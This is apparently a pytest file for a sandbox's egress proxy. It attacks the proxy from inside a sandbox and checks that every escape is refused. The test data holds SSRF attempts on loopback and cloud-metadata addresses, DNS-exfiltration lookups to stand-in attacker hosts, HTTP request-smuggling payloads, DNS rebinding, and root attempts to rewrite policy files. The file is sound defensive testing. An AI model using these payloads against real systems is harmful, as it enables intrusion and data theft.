"""Network escapes through the egress path that must fail. Each test attacks from inside a real
sandbox with egress, through the real host egress daemon, towards the test internet (see
tests/egress/internet.py) or the host itself, and checks both the refusal and that the target
saw nothing."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator

import pytest

from sandhold import audit
from sandhold.runtime.runtime import Runtime
from tests.egress.fixtures import EgressSandboxes, runtime_over, settings_over
from tests.egress.internet import Internet
from tests.runtime.helpers import py, sh

CODE = "curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 {extra} {url} || true"


async def status(sbx, url: str, extra: str = "") -> str:
    return (await sh(sbx, CODE.format(url=url, extra=extra))).text


class Listener:
    """A host TCP service (like the E2B server's port) that counts who reached it."""

    def __init__(self, host: str) -> None:
        self.sock = socket.socket()
        self.sock.bind((host, 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        threading.Thread(target=self._loop, daemon=True).start()

    def _loop(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.hits += 1
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def host_service() -> Iterator[Listener]:
    srv = Listener("0.0.0.0")  # on every host address, loopback included
    yield srv
    srv.close()


def evil_hits(internet: Internet, mark: int) -> list[dict[str, object]]:
    return [
        r
        for r in internet.since(mark)
        if r.get("server") == internet.evil_ip or "evil" in str(r.get("name", ""))
    ]


async def test_host_loopback_services_are_unreachable_through_the_proxy(
    egress_sandbox, host_service
):
    # Even an open sandbox whose tenant rules name loopback.
    sbx = await egress_sandbox(mode="open", allow=["127.0.0.0/8", "localhost"])
    p = host_service.port
    for url in (
        f"http://127.0.0.1:{p}/",
        f"http://localhost:{p}/",
        f"https://127.0.0.1:{p}/",
        f"http://127.1.2.3:{p}/",
    ):
        # 403 (internal address), 000 (CONNECT refused) or 502 (``localhost`` is no public name)
        assert await status(sbx, url, "--noproxy '' --proxy http://127.0.0.1:3128") in (
            "403",
            "000",
            "502",
        )
    assert host_service.hits == 0


async def test_ip_encodings_of_loopback_do_not_slip_through(egress_sandbox, host_service):
    sbx = await egress_sandbox(mode="open")
    p = host_service.port
    for host in (
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.1",
        "[::ffff:127.0.0.1]",
        "[::1]",
        "0.0.0.0",
    ):
        r = await sh(sbx, f"curl -s -i --max-time 10 -x http://127.0.0.1:3128 http://{host}:{p}/")
        assert "200 OK" not in r.text, host
    assert host_service.hits == 0


async def test_cloud_metadata_address_is_unreachable(egress_sandbox):
    sbx = await egress_sandbox(mode="open", allow=["169.254.169.254"])
    r = await sh(sbx, "curl -s -i --max-time 10 http://169.254.169.254/latest/meta-data/")
    assert "403" in r.text and "internal address (169.254.0.0/16)" in r.text
    assert await status(sbx, "https://169.254.169.254/") == "000"


async def test_rfc1918_and_unique_local_addresses_are_unreachable(egress_sandbox):
    sbx = await egress_sandbox(mode="open", allow=["10.0.0.0/8", "192.168.0.0/16"])
    for url in (
        "http://10.0.0.1/",
        "http://172.16.5.4/",
        "http://192.168.1.1/",
        "http://100.64.0.1/",
        "http://[fd00::1]/",
        "http://[fe80::1]/",
    ):
        r = await sh(sbx, f"curl -s -i --max-time 10 {url}")
        assert "403 Forbidden" in r.text and "internal address" in r.text, url


async def test_the_hosts_own_addresses_are_unreachable(egress_sandbox, internet, host_service):
    sbx = await egress_sandbox(mode="open")
    r = await sh(sbx, f"curl -s -i --max-time 10 http://{internet.host_ip}:{host_service.port}/")
    assert "an address of the sandbox host" in r.text
    r = await sh(sbx, f"curl -s -i --max-time 10 http://hostaddr.example.test:{host_service.port}/")
    assert "an address of the sandbox host" in r.text
    assert host_service.hits == 0


@pytest.fixture(scope="module")
def closed_runtime(internet: Internet) -> Iterator[Runtime]:
    """Egress through the test internet, whose range the operator has not opened."""
    closed = settings_over(internet, "sandhold-egress-closed-", egress_open_cidrs=[])
    yield from runtime_over(closed)


async def test_a_fleets_networks_are_unreachable_unless_the_operator_opens_them(
    closed_runtime, internet
):
    """A fleet's hosts, edge, store and database live in ranges that are not globally routable
    (node and pod networks in 100.64.0.0/10, 198.18.0.0/15, RFC 1918). The test internet is one
    of them (198.18.0.0/15): standing in for another host of the fleet, it is refused, by
    address and by name, and sees nothing."""
    factory = EgressSandboxes(closed_runtime)
    try:
        sbx = await factory(mode="open", allow=["0.0.0.0/0", "::/0"])
        mark = internet.mark()
        for url in (f"http://{internet.plain_ip}/", "http://plain.example.test/",
                    f"http://[{internet.ns_ip6}]/"):  # fmt: skip
            r = await sh(sbx, f"curl -s -i --max-time 10 {url}")
            assert "403 Forbidden" in r.text and "internal address" in r.text, (url, r.text)
        seen = internet.since(mark)
        assert [r for r in seen if r.get("kind") != "dns"] == [], seen  # the name was resolved
    finally:
        await factory.cleanup()


@pytest.fixture(scope="module")
def fleet_runtime(internet: Internet) -> Iterator[Runtime]:
    """Egress through the test internet, opened as if it were the internet, on a host of a
    fleet whose own addresses are two of it: one configured (egress_deny_cidrs), one found (the
    Kubernetes API a pod's environment names)."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("KUBERNETES_SERVICE_HOST", internet.evil_ip)
        fleet = settings_over(
            internet, "sandhold-egress-fleet-", egress_deny_cidrs=[f"{internet.plain_ip}/32"]
        )
        yield from runtime_over(fleet)


async def test_the_fleets_own_addresses_stay_closed_inside_an_opened_range(fleet_runtime, internet):
    factory = EgressSandboxes(fleet_runtime)
    try:
        sbx = await factory(mode="open", allow=["0.0.0.0/0", "::/0"])
        mark = internet.mark()
        assert await status(sbx, "http://api.example.test/") == "200"  # the opened range
        for url in (f"http://{internet.plain_ip}/", "http://plain.example.test/",
                    f"http://{internet.evil_ip}/", "http://evil.test/"):  # fmt: skip
            r = await sh(sbx, f"curl -s -i --max-time 10 {url}")
            assert "403 Forbidden" in r.text and "an address of the fleet" in r.text, (url, r.text)
        seen = [r for r in internet.since(mark) if r.get("kind") != "dns"]
        assert {r.get("server") for r in seen} == {internet.api_ip}, seen
    finally:
        await factory.cleanup()


async def test_no_route_around_the_proxy(egress_sandbox, internet):
    sbx = await egress_sandbox(mode="open")
    mark = internet.mark()
    r = await py(
        sbx,
        "import socket\n"
        f"for a in [('{internet.api_ip}', 80), ('{internet.api_ip}', 53)]:\n"
        "    s = socket.socket(); s.settimeout(3)\n"
        "    try: s.connect(a); print('connected')\n"
        "    except OSError as e: print('refused', e.errno)\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"try: u.sendto(b'x', ('{internet.api_ip}', 53)); print('sent')\n"
        "except OSError as e: print('refused', e.errno)",
    )
    assert "connected" not in r.text and "sent" not in r.text, r.text
    assert internet.since(mark) == []
    r = await sh(sbx, "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '")
    assert r.text.split() == ["lo"]


async def test_other_sandboxes_are_unreachable(egress_sandbox):
    victim = await egress_sandbox(mode="open")
    await sh(victim, "nohup python3 -m http.server 8765 --bind 127.0.0.1 >/tmp/log 2>&1 &")
    attacker = await egress_sandbox(mode="open")
    assert await status(attacker, "http://127.0.0.1:8765/", "--noproxy '' -x 127.0.0.1:3128") in (
        "403",
        "000",
    )
    assert await status(attacker, "http://127.0.0.1:8765/") == "000"  # its own loopback
    log = await sh(victim, "sleep 0.2; cat /tmp/log")
    assert "GET" not in log.text


async def test_denied_domain_is_refused_and_never_contacted(egress_sandbox, internet):
    sbx = await egress_sandbox(allow=["api.example.test"])
    mark = internet.mark()
    assert await status(sbx, "http://evil.test/") == "403"
    assert await status(sbx, "https://evil.test/") == "000"
    assert await status(sbx, "http://EVIL.TEST./") == "403"
    assert evil_hits(internet, mark) == []


async def test_denied_domain_through_an_allowed_ones_address(egress_sandbox, internet):
    sbx = await egress_sandbox(allow=["api.example.test"])
    mark = internet.mark()
    # The allowed name's address as a literal, a CONNECT to an IP, and the neighbour address.
    assert await status(sbx, f"http://{internet.api_ip}/") == "403"
    assert await status(sbx, f"https://{internet.api_ip}/", "-k") == "000"
    assert await status(sbx, f"http://{internet.evil_ip}/", "-H 'Host: evil.test'") == "403"
    r = await py(
        sbx,
        "import socket\ns = socket.create_connection(('127.0.0.1', 3128))\n"
        f"s.sendall(b'CONNECT {internet.evil_ip}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
        "print(s.recv(200).split(b'\\r\\n')[0].decode())",
    )
    assert r.text.strip() == "HTTP/1.1 403 Forbidden"
    assert evil_hits(internet, mark) == [] and internet.since(mark) == []


async def test_host_header_that_differs_from_the_url_is_refused(egress_sandbox, internet):
    sbx = await egress_sandbox(allow=["api.example.test"])
    mark = internet.mark()
    r = await sh(sbx, "curl -s -i --max-time 10 -H 'Host: evil.test' http://api.example.test/")
    assert "403" in r.text and "does not match the URL's host" in r.text
    assert internet.since(mark) == []


async def test_tls_server_name_that_differs_from_the_tunnel_is_refused(
    egress_sandbox, internet, egress_settings
):
    sbx = await egress_sandbox(allow=["other.example.test"])
    mark = internet.mark()
    r = await py(
        sbx,
        "import socket, ssl\n"
        "s = socket.create_connection(('127.0.0.1', 3128))\n"
        "s.sendall(b'CONNECT other.example.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n"
        "print(s.recv(100).split(b'\\r\\n')[0].decode())\n"
        "ctx = ssl.create_default_context()\n"
        "try:\n"
        "    t = ctx.wrap_socket(s, server_hostname='evil.test')\n"
        "    t.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); print(t.recv(100))\n"
        "except (OSError, ssl.SSLError) as e: print('failed', type(e).__name__)",
    )
    assert r.text.splitlines()[0] == "HTTP/1.1 200 Connection established"
    assert r.text.splitlines()[1].startswith("failed"), r.text
    assert [x for x in internet.since(mark) if x["kind"] != "dns"] == []
    recs = audit.query(audit.egress_dir(egress_settings.data_dir), sandbox=sbx.id, decision="deny")
    assert recs and recs[-1]["rule"] == "sni"


async def test_dns_rebinding_to_internal_addresses_is_refused(egress_sandbox, host_service):
    sbx = await egress_sandbox(allow=["*.example.test"])
    for name in ("rebind.example.test", "metadata.example.test", "private.example.test"):
        r = await sh(sbx, f"curl -s -i --max-time 10 http://{name}:{host_service.port}/")
        assert "403" in r.text and f"{name} resolves to" in r.text, r.text
        r = await py(
            sbx,
            f"import socket\ntry: print(socket.gethostbyname('{name}'))\n"
            "except OSError as e: print('nxdomain')",
        )
        assert r.text.strip() == "nxdomain"
    assert host_service.hits == 0


async def test_dns_cannot_carry_data_out(egress_sandbox, internet):
    sbx = await egress_sandbox(allow=["api.example.test"])
    mark = internet.mark()
    await py(
        sbx,
        "import socket\n"
        "for n in ('c2VjcmV0LWRhdGE.exfil.evil.test', 'aGVsbG8.attacker.example'):\n"
        "    try: socket.gethostbyname(n)\n"
        "    except OSError: pass",
    )
    # A TXT question for an allowed name is answered empty, never looked up.
    r = await py(
        sbx,
        "import socket, struct\n"
        "q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join("
        "bytes([len(p)]) + p.encode() for p in 'api.example.test'.split('.')) + "
        "b'\\0' + struct.pack('!HH', 16, 1)\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)\n"
        "u.sendto(q, ('127.0.0.1', 53)); a = u.recv(512)\n"
        "print(a[3] & 15, struct.unpack('!H', a[6:8])[0])",
    )
    assert r.text.split() == ["0", "0"]
    names = [x.get("name") for x in internet.since(mark) if x["kind"] == "dns"]
    assert not [n for n in names if n and ("exfil" in n or "attacker" in n)]
    assert not [x for x in internet.since(mark) if x["kind"] == "dns" and x["qtype"] == 16]


async def test_the_proxy_is_no_way_to_the_control_plane_or_agent_sockets(egress_sandbox):
    sbx = await egress_sandbox(mode="open")
    r = await sh(sbx, "ls /run/sandhold-egress; ls /var/tmp 2>&1 | grep -c sandhold")
    assert r.text.split()[:3] == ["ca-bundle.pem", "proxy.sock", "resolv.conf"]
    for url in ("http://%2Frun%2Fsandhold%2Fagent.sock/health", "http://unix:/run/x.sock/"):
        r = await sh(sbx, f"curl -s -i --max-time 10 -x 127.0.0.1:3128 '{url}'")
        assert "200" not in r.text.split("\r\n")[0]
    # The unix socket itself speaks only the proxy protocol, under the same policy.
    r = await sh(
        sbx,
        "curl -s -i --max-time 10 --unix-socket /run/sandhold-egress/proxy.sock "
        "http://localhost/health",
    )
    assert "400 Bad Request" in r.text and "egress proxy" in r.text
    r = await sh(
        sbx, "curl -s -i --max-time 10 --noproxy '' -x 127.0.0.1:3128 http://127.0.0.1:49982/health"
    )
    assert "403" in r.text


async def test_request_smuggling_does_not_reach_a_denied_host(egress_sandbox, internet):
    sbx = await egress_sandbox(allow=["api.example.test"])
    mark = internet.mark()
    attacks = [
        # CL.TE: a second request hidden in a body
        "POST http://api.example.test/ HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 60"
        "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n"
        "Host: evil.test\r\n\r\n",
        # pipelined second request on the same connection
        "GET http://api.example.test/ HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
        "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        # duplicate Content-Length
        "POST http://api.example.test/ HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 0"
        "\r\nContent-Length: 44\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: e\r\n\r\n",
        # header folding and a bare LF smuggling a header
        "GET http://api.example.test/ HTTP/1.1\r\nHost: api.example.test\r\nX: a\r\n y\r\n\r\n",
        # userinfo confusion: the real host is evil.test
        "GET http://api.example.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        # a CONNECT authority that hides another host
        "CONNECT evil.test:443@api.example.test:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    ]
    for raw in attacks:
        r = await py(
            sbx,
            "import socket\ns = socket.create_connection(('127.0.0.1', 3128))\n"
            f"s.sendall({raw.encode()!r}); s.settimeout(10); out = b''\n"
            "while True:\n"
            "    try: d = s.recv(65536)\n"
            "    except OSError: break\n"
            "    if not d: break\n"
            "    out += d\n"
            "print(out.decode(errors='replace').count('HTTP/1.1 '))",
        )
        assert r.text.strip() in ("0", "1"), (raw, r.text)
    assert evil_hits(internet, mark) == []


async def test_wildcards_match_whole_labels_only(egress_sandbox):
    sbx = await egress_sandbox(allow=["*.example.test"])
    for url in (
        "http://evilexample.test/",
        "http://example.test.evil.test/",
        "http://example.test/",
    ):
        assert await status(sbx, url) == "403", url
    assert await status(sbx, "http://other.example.test/") == "200"


async def test_a_neighbour_keeps_working_while_another_attacks(egress_sandbox):
    neighbour = await egress_sandbox(allow=["api.example.test"])
    attacker = await egress_sandbox(mode="open")
    await sh(
        attacker,
        "for i in $(seq 50); do curl -s -o /dev/null --max-time 5 http://10.0.0.$i/ & done; wait",
    )
    assert await status(neighbour, "http://api.example.test/") == "200"


async def test_policy_cannot_be_changed_from_inside(egress_sandbox, egress_runtime):
    sbx = await egress_sandbox(allow=["api.example.test"])
    r = await sh(
        sbx,
        "{ echo '{}' > /run/sandhold-egress/x; rm /run/sandhold-egress/proxy.sock;"
        " cat /run/sandhold/../../egress.json; echo nameserver 1.1.1.1 > "
        "/etc/resolv.conf; } 2>&1; true",
        user="root",
    )
    assert r.text.count("Read-only file system") == 3, r.text
    assert await status(sbx, "http://evil.test/") == "403"
    assert egress_runtime.get(sbx.id).spec.network.allow == ["api.example.test"]


async def test_mode_none_sandbox_has_nothing_to_attack(make_sandbox, host_service):
    sbx = await make_sandbox()
    r = await sh(
        sbx,
        f"curl -s --max-time 5 -x 127.0.0.1:3128 http://127.0.0.1:{host_service.port}/"
        "; echo rc=$?; ls /run/sandhold-egress 2>&1",
    )
    assert "rc=7" in r.text and "No such file" in r.text
    assert host_service.hits == 0
